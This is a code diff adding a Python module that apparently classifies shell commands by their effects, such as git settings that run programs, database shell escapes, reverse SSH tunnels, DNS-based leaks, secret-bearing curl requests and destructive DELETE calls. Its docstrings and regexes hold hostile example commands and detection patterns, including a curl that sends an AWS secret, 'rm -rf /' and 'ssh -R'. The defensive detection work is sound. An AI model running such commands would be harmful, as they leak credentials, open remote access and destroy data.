@@ -1,0 +1,384 @@
+"""Clients of other machines and their settings: what they fetch, send, and run of what they were told."""
+
+import re
+
+from constitution.analysis.program_rows import secrets_in_code
+from constitution.analysis.steps import (
+    BARE_SHELL,
+    Command,
+    Copied,
+    Fetched,
+    Found,
+    Placed,
+    Remote,
+    Script,
+    Sent,
+    Started,
+    Steps,
+    Wrote,
+)
+from constitution.effects import Effect
+from constitution.shell.flow import Flow, Origin
+from constitution.tables import is_a
+from constitution.tables.rows import SSH_TAKES, commands_of_ssh, is_bare_shell, own_takes, read_line
+from constitution.zones import UNKNOWN, is_private
+
+__all__ = [
+    "BUILDS",
+    "CLONE_TAKES",
+    "aws",
+    "builds",
+    "clone",
+    "copy",
+    "copy_over_ssh",
+    "curl",
+    "database",
+    "file_client",
+    "git",
+    "installs",
+    "look_up",
+    "npm",
+    "request",
+    "ssh",
+    "talk",
+    "tee",
+    "unpack",
+    "wget",
+]
+
+RUNS = re.compile(
+    r"(?i)^(core\.(pager|editor|sshcommand|fsmonitor|askpass)|alias\.\S+|credential\.(\S+\.)?helper"
+    r"|filter\.\S+|diff\.\S+"
+    r"|sequence\.editor|merge\.\S+\.driver|pager\.\S+|difftool\.\S+|mergetool\.\S+)$"
+)
+GIT_TAKES = frozenset("-C -c --git-dir --work-tree --namespace --exec-path --config-env".split())  # noqa: SIM905
+PROGRAMS = re.compile(r"(?i)\b(?:from|to)\s+program\s+'((?:[^']|'')*)'")
+ESCAPES = re.compile(r"(?:\\!|^\.(?:shell|system)|(?<![\w.])system)\s+(.*)")
+
+
+def git(command: Command) -> Steps:
+    """`git -c KEY=VALUE`, `git config KEY VALUE`, `git bisect run CMD`, `git submodule foreach CMD`."""
+    line = read_line(command.argv[1:], GIT_TAKES, to_operand=True)
+    for setting in line.value_of("-c"):
+        key, _, value = setting.partition("=")
+        yield from _setting(key, value)
+    operands = list(line.operands)
+    yield from _cleans_elsewhere(line.value_of("-C", "--work-tree"), operands)
+    yield from _kept_and_sent(operands, command)
+    if operands[:2] in (["credential", "fill"], ["credential-store", "get"], ["credential-osxkeychain", "get"]):
+        yield Found(Effect.TAKE_KEYS, says="show a password")
+    for word in operands[1:]:
+        if word.startswith("ext::"):
+            yield Script(word.removeprefix("ext::").replace("% ", " "))
+    if operands[:1] == ["clone"]:
+        for setting in read_line(operands[1:], CLONE_TAKES).value_of("-c", "--config"):
+            key, _, value = setting.partition("=")
+            yield from _setting(key, value)
+        yield from clone(operands[1:])
+    if operands[:1] == ["config"]:
+        yield from _configure(operands[1:])
+    for verb, word in (("bisect", "run"), ("submodule", "foreach")):
+        if operands[:1] == [verb] and word in operands:
+            words = [part for part in operands[operands.index(word) + 1 :] if part not in ("--recursive", "--quiet")]
+            yield Script(words[0]) if len(words) == 1 else Started(words or [":"], command.stdin, by_shell=True)
+
+
+def _cleans_elsewhere(folders: tuple[str, ...], operands: list[str]) -> Steps:
+    """`git -C / clean -fdx`: what is not tracked is deleted there."""
+    flags = read_line(operands[1:], frozenset(["-e", "--exclude"])).flags
+    if operands[:1] == ["clean"] and flags & {"-f", "--force"} and not flags & {"-n", "--dry-run"}:
+        for folder in folders:
+            if folder.strip("./") or folder.startswith("/"):
+                yield Found(Effect.DELETE_TREE, path=folder)
+
+
+def _kept_and_sent(operands: list[str], command: Command) -> Steps:
+    """`git add .env`, `git push URL`, `git remote add NAME URL`."""
+    for word in operands[1:] if operands[:1] == ["add"] else ():
+        if is_private(word):
+            yield Found(Effect.READ, path=word, says="commit {path}, which looks like a secret")
+    if operands[:1] == ["push"]:
+        yield from _push(operands[1:], command)
+    if operands[:2] == ["remote", "add"] and len(operands) > 3:
+        yield Remote(operands[-2], operands[-1])
+
+
+def _configure(words: list[str]) -> Steps:
+    line = read_line(words, frozenset(["-f", "--file", "--type"]))
+    operands = line.operands[1:] if line.operands[:1] == ("set",) else line.operands
+    if len(operands) < 2 or line.flags & {"--get", "--get-all", "--get-regexp", "--list", "-l"}:
+        return
+    key, value = operands[0], " ".join(operands[1:])
+    if line.flags & {"--global", "--system"}:
+        yield Placed(tuple(_setting(key, value)))
+    else:
+        yield from _setting(key, value)
+    for flag, file in (("--global", "~/.gitconfig"), ("--system", "/etc/gitconfig")):
+        if flag in line.flags:
+            yield Found(Effect.WRITE, path=file, says="change the settings of every repository")
+
+
+FOLDER_SETTINGS = re.compile(r"(?i)^(core\.hookspath|init\.templatedir|include(if\..*)?\.path)$")
+NO_REMOTES = ("origin", "upstream", "fork", "heroku", "gitlab", "github", "bitbucket", "dokku")
+
+
+def _push(words: list[str], command: Command) -> Steps:
+    """`git push URL`, and `git push NAME` to a remote that was added a moment ago: the code goes to somebody else."""
+    operands = read_line(words, frozenset(["-o", "--push-option", "--repo", "--receive-pack"])).operands
+    target = operands[0] if operands else ""
+    if ADDRESS.match(target) or (target in command.files.remotes and target not in NO_REMOTES):
+        yield Found(Effect.UPLOAD, says="push the repository to another address")
+
+
+ADDRESS = re.compile(r"^(\w+://|[\w.-]+@[\w.-]+:)")
+
+
+def _setting(key: str, value: str) -> Steps:
+    if FOLDER_SETTINGS.match(key):
+        says = "make git run the files in {path}"
+        yield Found(Effect.PERSIST, path=value, says=says)
+    if key.lower().startswith("credential.") and value.startswith("!"):
+        yield Found(Effect.SHOW_SECRETS, says="give passwords to another program")
+    if not RUNS.match(key) or value in ("true", "false", "store", "cache", "osxkeychain", ""):
+        return
+    if not key.lower().startswith("alias."):
+        yield Script(value.removeprefix("!"))
+    else:
+        yield Script(value[1:] if value.startswith("!") else f"git {value}")
+
+
+def database(command: Command) -> Steps:
+    r"""`psql -c '\! CMD'`, `sqlite3 x '.shell CMD'`, `mysql -e 'system CMD'`, and the same in their input."""
+    for word in [*command.argv[1:], *command.stdin.text.splitlines()]:
+        if match := ESCAPES.search(word):
+            if is_bare_shell(match[1]):
+                yield Found(Effect.ESCAPE_SHELL, says=BARE_SHELL)
+            yield Script(match[1])
+        yield from secrets_in_code(word)
+        for script in PROGRAMS.findall(word):
+            yield Script(script.replace("''", "'"))
+    if command.stdin.text:
+        yield Started(
+            [command.name, *(["x"] if command.name == "sqlite3" else []), command.stdin.text],
+            Flow(command.stdin.origin),
+        )
+
+
+def aws(command: Command) -> Steps:
+    """`aws ssm send-command --parameters 'commands=["rm -rf /"]'`: what other machines are to run."""
+    for word in command.argv[1:] if "send-command" in command.argv else ():
+        if "commands=" in word or '"commands"' in word:
+            quoted = re.findall(r"[\"']((?:[^\"'\\]|\\.)+)[\"']", word.partition("commands")[2])
+            for script in quoted or [word.partition("=")[2]]:
+                yield Script(script)
+
+
+def npm(command: Command) -> Steps:
+    """`npm pkg set scripts.postinstall=COMMAND`, `npm set-script NAME COMMAND`: it runs with the next install."""
+    for script in command.argv[3:4] if command.argv[1:2] == ["set-script"] else ():
+        yield Script(script)
+    if command.argv[1:3] == ["pkg", "set"]:
+        for word in command.argv[3:]:
+            key, _, value = word.partition("=")
+            if key.startswith("scripts."):
+                yield Script(value)
+
+
+def ssh(command: Command) -> Steps:
+    """`ssh -R 2222:localhost:22 HOST`: whoever is there gets a way in here."""
+    takes = [*SSH_TAKES.split(), "-M"] if command.name == "autossh" else SSH_TAKES.split()
+    line = read_line(command.argv[1:], frozenset(takes), to_operand=True)
+    if "-R" in line.flags or any("RemoteForward" in value for value in line.value_of("-o")):
+        yield Found(Effect.REVERSE_TUNNEL, says="give another machine access to this one")
+
+
+ENCODES = re.compile(rb"\b(base64|base32|xxd|hexdump|od)\b")
+
+
+def look_up(command: Command) -> Steps:
+    """`dig NAME`, `ping NAME`: what is put into a name goes to whoever answers for it."""
+    for word in command.argv[1:]:
+        if UNKNOWN in word and command.name == "ping" and "-p" in command.argv:
+            yield Found(Effect.LEAK, says="send data to another machine, in packets")
+        if UNKNOWN in word and re.search(r"\0[^\0/]*\.[A-Za-z][\w-]*\.?$", word):
+            says = "send data to another machine, in a name that is looked up"
+            computed = "$(" in command.text or "`" in command.text or ENCODES.search(command.source) is not None
+            yield Found(Effect.LEAK if computed else Effect.UPLOAD, says=says)
+
+
+KEY = r"\w*(?:SECRET|PASSWORD|PASSWD|PRIVATE_KEY|ACCESS_KEY|SESSION_TOKEN|DATABASE_URL|AWS_\w+)\w*"
+KEY_SENT = re.compile(
+    rf"(?:https?://|[?&]\w+=)[^\s\"']*\$\{{?{KEY}"
+    rf"|(?:-d|--data[\w-]*|-F|--form|--json|--post-data)[= ]*[\"']?[^\s\"']*\$\{{?\w*(?:KEY|TOKEN|SECRET|PASS)"
+)
+"""A variable whose name says that it is a key stands in an address, or in what is sent; a header may hold one."""
+
+DELETES = re.compile(
+    r"/_all\b|/_delete_by_query|:92\d\d/|:(?:5984|2375|2376|8086|8500|8200|6443|10250)/|/v1/kv/|/v2/_catalog"
+    r"|/api/v1/namespaces"
+    r"|https://[\w.-]+\.\w+[^\s]*/(?:repos|orgs|droplets|zones|apps|projects|volumes|containers|images|indices"
+    r"|buckets|servers|instances|databases)/"
+)
+"""Addresses at which a request to delete loses more than a record."""
+
+LOSES = "delete what a service holds"
+
+
+def request(command: Command) -> Steps:
+    """`curl -X DELETE http://localhost:9200/_all`, `curl https://example.com/?k=$AWS_SECRET_ACCESS_KEY`."""
+    line = read_line(command.argv[1:], frozenset(["-X", "--request", "--method", "-H", "-d", "--data", "-u", "-o"]))
+    method = "".join(line.value_of("-X", "--request", "--method")).upper()
+    deletes = method == "DELETE" or (command.name in ("http", "https", "xh") and "DELETE" in command.argv)
+    if any("_delete_by_query" in word for word in command.argv) or (
+        deletes and any(map(DELETES.search, command.argv[1:]))
+    ):
+        yield Found(Effect.CLOUD_LOSS, says=LOSES)
+    if command.stdin.names == ("tar",) and not any("localhost" in word or "127.0.0.1" in word for word in command.argv):
+        yield Found(Effect.LEAK, says="send whole folders to another machine")
+    if any(UNKNOWN in word for word in command.argv[1:]) and not any(
+        "localhost" in word or "127.0.0.1" in word for word in command.argv
+    ):
+        yield Sent()
+    if KEY_SENT.search(command.text):
+        yield Found(Effect.LEAK, says="send a key to another machine")
+
+
+STARTS = re.compile(r"^\s*!(.+)$", re.M)
+SENDS = re.compile(r"^\s*(?:put|mput|send|reput|append)\s+(.+)$", re.I | re.M)
+
+
+def file_client(command: Command) -> Steps:
+    """`sftp host <<< 'put FILE'`, `tftp host -c put FILE`, `smbclient //host/x -c 'put FILE'`."""
+    yield from _of_ssh(command.argv)
+    words = " ".join(command.argv[1:])
+    texts = [command.stdin.text, *re.split(r"[;\n]|(?<=\s)-c\s|(?<=\s)-e\s", words)]
+    for text in texts:
+        for script in STARTS.findall(text):
+            if is_bare_shell(script):
+                yield Found(Effect.ESCAPE_SHELL, says=BARE_SHELL)
+            yield Script(script)
+        for match in SENDS.finditer(text):
+            for file in match[1].replace("'", " ").replace('"', " ").split()[:8]:
+                yield Found(Effect.READ, path=file)
+    yield Found(Effect.UPLOAD, says="copy files between machines")
+
+
+def copy_over_ssh(command: Command) -> Steps:
+    """`scp -o ProxyCommand=CMD`, `scp -S CMD`."""
+    yield from _of_ssh(command.argv)
+
+
+def _of_ssh(argv: list[str]) -> Steps:
+    line = read_line(argv[1:], frozenset(("-S", "-o", "-P", "-i", "-F", "-c", "-l", "-J", "-b", "-D")))
+    for script in (*line.value_of("-S"), *commands_of_ssh(line.value_of("-o"))):
+        yield Script(script)
+
+
+def talk(command: Command) -> Steps:
+    """`openssl s_client -connect HOST < FILE`: what goes in goes to another machine."""
+    if any(re.match(r"(localhost|127\.|\[::1\])", word) for word in command.argv[1:]):
+        return
+    if "s_client" in command.argv[1:2] and command.stdin.origin.name not in ("NOTHING", "TEXT"):
+        yield Found(Effect.UPLOAD, says="send data to another machine")
+    elif "s_client" in command.argv[1:2]:
+        yield Found(Effect.NETWORK, says="reach another machine over the network")
+
+
+FETCHED_FILE = Flow(Origin.FETCHED)
+COPY_TAKES = frozenset("-t --target-directory -S --suffix -m --mode -o --owner -g --group".split())  # noqa: SIM905
+
+
+def curl(command: Command) -> Steps:
+    """`curl -o FILE URL`, `curl -O URL`."""
+    yield from request(command)
+    line = read_line(command.argv[1:], own_takes("curl"))
+    files = list(line.value_of("-o", "--output"))
+    if line.flags & {"-O", "--remote-name", "-J", "--remote-name-all"}:
+        files += [_last_part(url) for url in line.operands]
+    for file in files:
+        yield Wrote(file, FETCHED_FILE)
+
+
+def wget(command: Command) -> Steps:
+    """`wget -O FILE URL`, `wget URL`, `wget -P FOLDER URL`; `aria2c` and `axel` are taken alike."""
+    yield from request(command)
+    line = read_line(command.argv[1:], own_takes("wget"))
+    files = list(line.value_of("-O", "--output-document", *(["-o", "--out"] if command.name != "wget" else [])))
+    folders = line.value_of("-P", "--directory-prefix", *(["-d", "--dir"] if command.name == "aria2c" else [])) or (
+        ".",
+    )
+    files = files or [f"{folder}/{_last_part(url)}" for folder in folders for url in line.operands]
+    for file in files:
+        yield Wrote(file, FETCHED_FILE)
+
+
+def copy(command: Command) -> Steps:
+    """`cp A B`, `mv A B`, `ln A B`: what is known about A is known about B."""
+    line = read_line(command.argv[1:], COPY_TAKES)
+    folders = line.value_of("-t", "--target-directory")
+    sources, target = (line.operands, folders[0]) if folders else (line.operands[:-1], "".join(line.operands[-1:]))
+    for source in sources if command.name == "mv" and target == "/dev/null" else ():
+        yield Found(Effect.DELETE_TREE, path=source)
+    for source in sources:
+        for copied in (target, f"{target}/{_last_part(source)}"):
+            yield Copied(source, copied)
+
+
+def tee(command: Command) -> Steps:
+    """`tee FILE`: its input goes into files."""
+    for file in read_line(command.argv[1:], frozenset()).operands:
+        yield Wrote(file, command.stdin)
+
+
+def _last_part(url: str) -> str:
+    return url.partition("?")[0].rstrip("/").rpartition("/")[2]
+
+
+CLONE_TAKES = frozenset("-b --branch --depth -o --origin -c --config --reference -j --filter -u".split())  # noqa: SIM905
+REMOTE = re.compile(r"^(?:(?:https?|git|ssh|ftp)://(?!localhost|127\.)|[\w.-]+@[\w.-]+:|gh:|[\w.-]+\.[a-z]+:)")
+
+BUILDS = re.compile(
+    r"^(make|gmake|cmake|ninja|meson|scons|rake|just|task|tox|nox|ant|mvn|gradle|bazel|configure|install|build|setup"
+    r"|(npm|pnpm|yarn|bun)( (i|ci|install|run|test|start|build|exec|x|add))?|(pip|pip3|pipx|uv pip|poetry|pdm)"
+    r" (install|run)"
+    r"|(cargo|go|dotnet|swift|stack|cabal|zig|dub|nimble|mix|sbt) (build|run|test|install|generate)|bundle"
+    r" (install|exec)"
+    r"|composer install|gem (build|install)|docker (build|compose)|docker-compose|vagrant up|terraform apply"
+    r"|ansible-playbook"
+    r"|easy_install|python setup\.py)\b"
+)
+"""Commands that run what stands in the files of a folder."""
+
+
+def clone(words: list[str]) -> Steps:
+    """`git clone URL [FOLDER]`: what is in the folder is somebody else's."""
+    operands = read_line(words, CLONE_TAKES).operands
+    if operands and REMOTE.match(operands[0]):
+        name = operands[0].rstrip("/").removesuffix(".git").replace(":", "/").rpartition("/")[2]
+        yield Fetched(operands[1] if len(operands) > 1 else name)
+
+
+def unpack(command: Command) -> Steps:
+    """`tar xf FILE`, `unzip FILE`, `curl ... | tar x`: an archive that was fetched leaves a folder that was."""
+    line = read_line(command.argv[1:], frozenset(["-f", "--file", "-C", "--directory", "-d", "-o"]))
+    files = (*line.value_of("-f", "--file"), *line.operands)
+    flows = [command.content(file) for file in files] + [command.stdin]
+    if any(flow.origin is Origin.FETCHED for flow in flows):
+        for folder in line.value_of("-C", "--directory", "-d") or (".",):
+            yield Fetched(folder)
+
+
+def builds(command: Command) -> Steps:
+    """A tool that runs what the files of a folder say, in a folder, or on one, that was fetched a moment ago."""
+    if not command.files.fetched or not BUILDS.match(" ".join([command.name, *command.argv[1:3]])):
+        return
+    words = [".", *command.argv[1:]]
+    if command.files.is_fetched(path for word in words for path in command.targets(word.removeprefix("-C"))):
+        yield Found(Effect.RUN_CLONED_CODE, says="run code that was just cloned or downloaded")
+
+
+def installs(command: Command) -> Steps:
+    """`dpkg -i FILE`: a package that was fetched a moment ago runs scripts as it is installed."""
+    for word in command.argv[1:] if is_a(command.name, "installer") else ():
+        if command.content(word).origin is Origin.FETCHED:
+            yield Found(Effect.RUN_FETCHED_CODE)
